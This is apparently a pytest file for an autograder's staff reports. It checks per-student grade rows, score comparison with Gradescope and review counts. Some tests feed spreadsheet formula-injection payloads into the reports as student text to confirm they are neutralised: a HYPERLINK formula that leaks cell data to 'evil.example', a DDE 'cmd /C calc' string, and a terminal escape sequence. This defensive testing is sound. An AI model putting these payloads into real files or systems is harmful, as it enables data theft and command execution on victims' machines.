"""grades.csv and summary.csv: a row per student, Gradescope's score beside ours, neutralised formula cells."""

import csv
from pathlib import Path

import pytest

from autograder.staff import reports
from autograder.staff.reports import Row
from autograder.staff.export import Entry, Submitter

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")'
FILE_FORMULA = '=HYPERLINK("evil.example?leak="&A1,"open me")'  # a file name holds no slash


def _results(score: float, per_test: tuple[float, float], notebook: str = "hw4_part1.ipynb") -> dict:
    """As grade() writes them: the graded notebook's name in extra_data (reports read it there, never the summary)."""
    tests = [{"name": "first", "number": "1.1", "score": per_test[0], "max_score": 1.0},
             {"name": "second", "number": "1.2", "score": per_test[1], "max_score": 2.0},
             {"name": "Grader log (course staff only)", "score": 0.0, "max_score": 0.0, "visibility": "hidden"}]
    return {"score": score, "output": f"Graded `{notebook}` as X.", "tests": tests,
            "extra_data": {"status": "ok", "detail": "", "notebook": notebook}}


def _read(path: Path) -> list[dict]:
    with path.open(newline="") as stream:
        return list(csv.DictReader(stream))


def test_a_group_gets_a_row_per_member_with_gradescope_score_and_changed(tmp_path):
    (tmp_path / "submission_1").mkdir()
    group = Entry("submission_1", tmp_path / "submission_1",
                  (Submitter("Alan Turing", "alan@example.edu", "1"), Submitter("Grace Hopper", "grace@example.edu")),
                  recorded_score=3.0)
    moved = Entry("submission_2", tmp_path / "submission_2", (Submitter("Ada Lovelace"),), recorded_score=3.0)
    unknown = Entry("submission_3", tmp_path / "submission_3", (), recorded_score=None)
    crashed = Entry("submission_4", tmp_path / "submission_4", (Submitter("Pat"),), recorded_score=2.0)
    rows = [Row(group, "ok", "", _results(3.0, (1.0, 2.0)), 1.0),
            Row(moved, "ok", "", _results(2.5, (1.0, 1.5)), 1.0),
            Row(unknown, "ok", "", _results(0.0, (0.0, 0.0)), 1.0),
            Row(crashed, "crashed", "the grader exited with status 3", None, 1.0)]
    reports.write_reports(rows, tmp_path)
    grades = _read(tmp_path / "grades.csv")
    columns = len(reports.GRADES_COLUMNS)
    assert list(grades[0])[:columns] == list(reports.GRADES_COLUMNS) and list(grades[0])[columns:] == ["1.1", "1.2", "detail"]
    assert [(g["submission"], g["name"], g["email"], g["sid"]) for g in grades] == [
        ("submission_1", "Alan Turing", "alan@example.edu", "1"),
        ("submission_1", "Grace Hopper", "grace@example.edu", ""),
        ("submission_2", "Ada Lovelace", "", ""), ("submission_3", "", "", ""), ("submission_4", "Pat", "", "")]
    assert grades[0] | {"name": "", "email": "", "sid": ""} == grades[1] | {"name": "", "email": "", "sid": ""}
    assert [(g["total"], g["gradescope_score"], g["changed"]) for g in grades] == [
        ("3", "3", "no"), ("3", "3", "no"), ("2.5", "3", "yes"), ("0", "", ""), ("", "2", "")]
    assert (grades[0]["file"], grades[0]["max_total"], grades[2]["1.2"]) == ("submission_1/hw4_part1.ipynb", "3", "1.5")
    summary = {s["number"]: s for s in _read(tmp_path / "summary.csv")}
    assert summary["1.2"] == {"number": "1.2", "name": "second", "max_score": "2", "mean": "1.167", "full_marks": "1",
                              "graded": "3"}
    text = reports.summary_text(rows, tmp_path)
    assert "1 totals differ from the score Gradescope recorded" in text and "crashed  submission_4" in text


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1"])
def test_a_cell_that_could_start_a_formula_gets_a_quote(text):
    assert reports.cell(text) == "'" + text
    assert reports.cell("Ada " + text) == "Ada " + text  # not at the start: plain text to a spreadsheet
    assert reports.cell(-2.0) == "-2" and reports.cell(0.25) == "0.25"  # numbers the batch computed stay numbers


def test_student_text_reaches_the_csv_neutralised(tmp_path):
    """A notebook named like a formula, a submitter named like one, and a detail that starts with one."""
    name = f"{FILE_FORMULA}.ipynb"
    entry = Entry(FILE_FORMULA, tmp_path / name, (Submitter(FORMULA, "@evil", "-1+2"),), recorded_score=1.0)
    row = Row(entry, "invalid", "=cmd|' /C calc'!A0", _results(1.0, (1.0, 0.0), name), 1.0)
    reports.write_reports([row], tmp_path)
    (grades,) = _read(tmp_path / "grades.csv")
    assert (grades["submission"], grades["name"], grades["email"], grades["sid"]) == (
        "'" + FILE_FORMULA, "'" + FORMULA, "'@evil", "'-1+2")
    assert grades["file"] == "'" + name and grades["detail"] == "'=cmd|' /C calc'!A0"
    raw = (tmp_path / "grades.csv").read_text()
    assert not any(c.startswith(reports.FORMULA_START) for line in csv.reader(raw.splitlines()) for c in line)
    text = reports.summary_text([Row(entry, "invalid", "bad\x1b]0;pwned\x07 notebook", None, 1.0)], tmp_path)
    assert "\x1b" not in text and "\x07" not in text  # no terminal escapes from student text on the console


def test_checks_the_grader_failed_on_are_counted_for_review(tmp_path):
    flagged = _results(1.0, (1.0, 0.0)) | {"extra_data": {"status": "ok", "detail": "", "needs_review": ["1.2"]}}
    rows = [Row(Entry("submission_1", tmp_path / "submission_1", ()), "ok", "", flagged, 1.0),
            Row(Entry("submission_2", tmp_path / "submission_2", ()), "ok", "", _results(3.0, (1.0, 2.0)), 1.0)]
    reports.write_reports(rows, tmp_path)
    assert [g["needs_review"] for g in _read(tmp_path / "grades.csv")] == ["1.2", ""]
    assert "1 need review" in reports.summary_text(rows, tmp_path)


def test_the_graded_notebook_is_read_from_extra_data_never_from_the_summary(tmp_path):
    (tmp_path / "submission_1").mkdir()
    entry = Entry("submission_1", tmp_path / "submission_1", ())
    forged = _results(1.0, (1.0, 0.0)) | {"output": "Graded `forged.ipynb` as X."}
    written = _results(1.0, (1.0, 0.0), "mine.ipynb") | {"output": "Graded `forged.ipynb` as X."}
    unnamed = _results(1.0, (1.0, 0.0)) | {"extra_data": {"status": "ok", "detail": ""}}
    reports.write_reports([Row(entry, "ok", "", r, 1.0) for r in (forged, written, unnamed)], tmp_path)
    assert [g["file"] for g in _read(tmp_path / "grades.csv")] == [
        "submission_1/hw4_part1.ipynb", "submission_1/mine.ipynb", "submission_1"]
